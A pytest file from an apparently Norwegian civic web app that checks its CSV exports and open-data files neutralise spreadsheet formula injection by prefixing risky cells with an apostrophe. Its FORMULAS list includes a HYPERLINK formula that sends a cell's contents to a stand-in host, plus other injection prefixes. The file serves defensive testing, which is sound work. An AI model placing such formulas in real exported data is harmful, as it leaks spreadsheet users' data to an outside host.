"""One CSV writer for the whole app: a cell a spreadsheet would run as a formula is text in
every CSV the app writes (downloads and open data), and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
from contextlib import closing
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from app.compass import services as compass_services
from app.compass.export import DATABASE_FILE, export_open_data, read_manifest
from app.core.csvfiles import FORMULA_STARTS, Writer, safe_cell, to_csv
from app.core.dates import today
from app.declarations.services import PromiseInput
from app.extensions import db
from app.panel import services as panel_services
from tests.panel.fixtures import _answers

#: What a resident could type to have a spreadsheet run something on the reader's machine
FORMULAS = [
    '=HYPERLINK("http://x.example/?d="&A1,"Klikk")',
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]
_NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(formula):
    assert safe_cell(formula) == f"'{formula}"
    assert _rows(to_csv([["tittel", formula]])) == [["tittel", f"'{formula}"]]


@pytest.mark.parametrize("number", [-1, -2.5, Decimal("-3.25"), 0, 7])
def test_numbers_stay_numbers(number):
    assert safe_cell(number) is number
    assert _rows(to_csv([[number]])) == [[str(number)]]


@pytest.mark.parametrize("text", ["Sykkelvei langs Hyttelva", "", "100 %", "a=b", " =1", "'x"])
def test_ordinary_text_is_left_as_it_is(text):
    assert _rows(to_csv([[text, None]])) == [[text, ""]]


def test_the_writer_streams_rows_and_makes_other_values_text():
    buffer = io.StringIO()
    writer = Writer(buffer)
    writer.writerow(["a", "b"])
    writer.writerows(iter([[date(2026, 5, 17), "-x"], [True, None]]))
    assert _rows(buffer.getvalue()) == [["a", "b"], ["2026-05-17", "'-x"], ["True", ""]]


# --- every CSV the app writes --------------------------------------------------------------

#: The app's CSV routes; open data serves the files its export wrote (manifest.json)
CSV_ROUTES = {
    "/panel/surveys/<int:survey_id>/results.csv",
    "/panel/surveys/<int:survey_id>/answers.csv",
    "/compass/report/<int:year>.csv",
}
OPEN_DATA_ROUTE = "/opendata/<path:filename>"


@pytest.fixture
def config_overrides(tmp_path):
    return {"OPENDATA_DIR": str(tmp_path / "opendata")}


@pytest.fixture
def formulas_everywhere(
    open_proposal, survey, member, winner, strategy, compass_admin, service, publish
):
    """Formulas in what residents write (a proposal, a free-text answer, a moment's story)
    and in what staff write (a survey question, a measure, an evaluation, a promise)."""
    first, second, third, fourth, fifth, sixth = FORMULAS
    open_proposal(title=first, summary=fifth, body=sixth, topic=fourth)
    survey.questions[0].text = fifth
    db.session.commit()
    for _ in range(6):  # six answers: the results are shown, not suppressed
        panel_services.submit_answers(
            member(area="Brekken", birth_year=1990), survey, _answers(survey, text=first)
        )
    survey.opens_on, survey.closes_on = date(2020, 1, 1), date(2020, 1, 31)
    winner(story=third, citation=first)
    compass_services.save_measure(
        compass_admin,
        None,
        strategy=strategy,
        title=sixth,
        description=first,
        focus_areas=[2],
        owner=fourth,
        due_on=None,
    )
    compass_services.save_evaluation(
        compass_admin, None, year=today().year, evaluator=fifth, total=400, scores={}, notes=first
    )
    publish(service, promises=[PromiseInput(second, None, None)], about=third)
    db.session.commit()
    return survey


def _download(client, path: str) -> str:
    with client.get(path) as response:
        assert response.status_code == 200, path
        assert response.mimetype == "text/csv", path
        return response.get_data(as_text=True)


def _downloads(app, survey, admin) -> dict[str, str]:
    """Every CSV the app offers, downloaded as its readers get it."""
    anonymous = app.test_client()
    csvs = {
        "results.csv": _download(anonymous, f"/panel/surveys/{survey.id}/results.csv"),
        "answers.csv": _download(admin, f"/panel/surveys/{survey.id}/answers.csv"),
        "report.csv": _download(anonymous, f"/compass/report/{today().year}.csv"),
    }
    export_open_data(app.config["OPENDATA_DIR"])
    for table in read_manifest(app.config["OPENDATA_DIR"])["tables"]:
        csvs[table["csv"]] = _download(anonymous, f"/opendata/{table['csv']}")
    return csvs


def test_every_csv_route_is_downloaded_below(app):
    """A new CSV route must join the test below."""
    rules = {rule.rule for rule in app.url_map.iter_rules()}
    assert {r for r in rules if ".csv" in r} == CSV_ROUTES
    assert OPEN_DATA_ROUTE in rules


def test_a_formula_is_text_in_every_csv(app, formulas_everywhere, admin_client):
    downloads = _downloads(app, formulas_everywhere, admin_client)
    assert {"proposals.csv", "moments_winners.csv", "compass_measures.csv"} <= set(downloads)
    for name, text in downloads.items():
        for row in _rows(text):
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS) or _NUMBER.fullmatch(cell), (
                    name,
                    cell,
                )
    # The formulas are there, made text, where each CSV carries what people wrote
    expected = {
        "proposals.csv": [FORMULAS[0], FORMULAS[4], FORMULAS[5], FORMULAS[3]],
        "answers.csv": [FORMULAS[0]],
        "results.csv": [FORMULAS[4]],
        "survey_results.csv": [FORMULAS[4]],
        "moments_winners.csv": [FORMULAS[2], FORMULAS[0]],
        "compass_measures.csv": [FORMULAS[5], FORMULAS[0], FORMULAS[3]],
        "compass_evaluations.csv": [FORMULAS[4], FORMULAS[0]],
        "report.csv": [FORMULAS[5], FORMULAS[4]],
        "declarations_promises.csv": [FORMULAS[1]],
        "declarations_versions.csv": [FORMULAS[2]],
    }
    for name, formulas in expected.items():
        cells = {cell for row in _rows(downloads[name]) for cell in row}
        for formula in formulas:
            assert f"'{formula}" in cells, (name, formula)


def test_the_open_data_database_keeps_the_text_as_written(app, client, formulas_everywhere):
    """Only the CSV files quote: the SQLite database is read by programs, not spreadsheets;
    the open-data page says so."""
    export_open_data(app.config["OPENDATA_DIR"])
    database = Path(app.config["OPENDATA_DIR"]) / DATABASE_FILE
    with closing(sqlite3.connect(database)) as conn:
        titles = [row[0] for row in conn.execute("SELECT title FROM proposals")]
    assert titles == [FORMULAS[0]]
    page = client.get("/opendata/").get_data(as_text=True)
    assert "fått en apostrof (') foran" in page
